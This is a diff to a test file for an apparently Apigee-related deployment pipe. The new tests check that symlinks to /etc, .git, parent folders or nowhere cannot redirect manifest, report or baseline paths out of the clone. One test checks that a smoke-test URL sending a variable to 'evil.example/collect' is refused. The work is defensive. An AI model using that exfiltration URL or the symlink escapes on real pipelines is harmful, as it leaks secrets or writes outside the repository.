@@ -1,8 +1,9 @@
-import { mkdir, symlink, writeFile } from 'node:fs/promises';
+import { mkdir, readdir, symlink, writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import { describe, expect, it } from '@jest/globals';
 import { proxyFiles } from '../support/repository.ts';
-import { codesOf, story } from '../support/story.ts';
+import { runPipe } from '../support/run-pipe.ts';
+import { codesOf, story, writesIn } from '../support/story.ts';
 
 type Variables = Readonly<Record<string, string>>;
 
@@ -43,18 +44,36 @@ describe('What a manifest says of where and how', () => {
   });
 
   it.each([
-    ['bundles: [outside/proxies]', 'outside is a link'],
-    ['bundles: ["outside/*"]', 'outside is a link'],
-    ['mavenConfig: outside/config.json', 'outside is a link'],
+    ['bundles: [outside/proxies]', 'outside is, or leads to, no part'],
+    ['bundles: ["outside/*"]', 'outside is, or leads to, no part'],
+    ['mavenConfig: outside/config.json', 'outside is, or leads to, no part'],
+    ['mavenConfig: .git/config', '.git is, or leads to, no part'],
+    ['mavenConfig: to-git/config', 'to-git is, or leads to, no part'],
+    ['mavenConfig: proxies/up/outside/config.json', 'proxies/up/outside is, or leads to, no part'],
+    ['mavenConfig: nowhere/config.json', 'nowhere is, or leads to, no part'],
   ])('does not leave it by a link either: %s', async (text, sentence) => {
     await story({ files: withManifest(`${text}\n`) }, async ({ emulator, repository, run }) => {
       await mkdir(join(repository.path, '..', 'apigee-pipe-outside'), { recursive: true });
       await symlink('/etc', join(repository.path, 'outside'));
+      await mkdir(join(repository.path, '.git'));
+      await symlink('.git', join(repository.path, 'to-git'));
+      await symlink('..', join(repository.path, 'proxies/up'));
+      await symlink('nothing', join(repository.path, 'nowhere'));
       const { exitCode, log } = await run();
 
       expect(exitCode).toBe(2);
       expect(log).toContain(sentence);
       expect(emulator.requests).toEqual([]);
+    });
+  });
+
+  it('may be reached by a link that stays in the clone', async () => {
+    const json = JSON.stringify({ configurations: [{ name: 'test', proxy: [], policy: [], target: [] }] });
+    const files = { ...withManifest('mavenConfig: linked/config.json\n'), 'real/config.json': json };
+    await story({ files }, async ({ repository, run }) => {
+      await symlink('real', join(repository.path, 'linked'));
+
+      expect((await run()).log).not.toContain('leads to');
     });
   });
 
@@ -148,6 +167,67 @@ describe('The manifest’s file', () => {
       });
     },
   );
+});
+
+describe('A committed link', () => {
+  it.each([
+    ['test-reports', '/tmp'],
+    ['test-reports', '.git'],
+    ['test-reports', 'nothing'],
+    ['test-reports/apigee-pipe', '../..'],
+  ])('never makes the pipe report elsewhere: %s to %s', async (name, target) => {
+    await story({ files: { ...orders, '.git/config': '' } }, async ({ emulator, repository, run }) => {
+      if (name.includes('/')) await mkdir(join(repository.path, 'test-reports'));
+      await symlink(target, join(repository.path, name));
+      for (const folder of [{}, { REPORT_DIR: join(repository.path, name, 'reports') }]) {
+        const { exitCode, log } = await runPipe({
+          directory: repository.path,
+          environment: emulator.environment(folder),
+        });
+
+        expect(`${log}\n${exitCode}`).toMatch(/\n2$/);
+        expect(log).toContain('REPORT_DIR goes by way of');
+      }
+      expect(emulator.requests).toEqual([]);
+      expect(await readdir(join(repository.path, '.git'))).toEqual(['config']);
+    });
+  });
+
+  it.each([
+    ['/tmp', 'false'],
+    ['/tmp', 'true'],
+    ['.git', 'true'],
+  ])('never leads to a baseline: to %s, LINT_BASELINE_WRITE %s', async (target, write) => {
+    await story({ files: { ...orders, '.git/config': '' } }, async ({ repository, run }) => {
+      await symlink(target, join(repository.path, 'linked'));
+      const variables = { LINT_BASELINE: 'linked/baseline.json', LINT_BASELINE_WRITE: write };
+      const { exitCode, log } = await run({ ...variables, ACTION: 'lint' });
+
+      expect(`${log}\n${exitCode}`).toMatch(/\n2$/);
+      expect(log).toContain('LINT_BASELINE names');
+      expect(await readdir(join(repository.path, '.git'))).toEqual(['config']);
+    });
+  });
+});
+
+describe('Smoke tests of another host', () => {
+  it.each(['plan', 'deploy'])('are refused before anything is deployed: %s', async (action) => {
+    const text = `environments:
+  test:
+    smokeTests:
+      - { url: "https://evil.example/collect?\${SMOKE}" }
+      - { url: "/health" }
+`;
+    await story({ files: withManifest(text) }, async ({ emulator, run }) => {
+      const variables = { ACTION: action, MANIFEST_VARIABLES: 'SMOKE', SMOKE: 'planted-value' };
+      const { exitCode, log, result } = await run(variables);
+
+      expect(exitCode).toBe(2);
+      expect(log).toContain('SMOKE_HOSTS does not list it');
+      expect(`${log}${JSON.stringify(result)}`).not.toContain('planted-value');
+      expect(writesIn(emulator)).toEqual([]);
+    });
+  });
 });
 
 describe('Names that an address would fold away', () => {
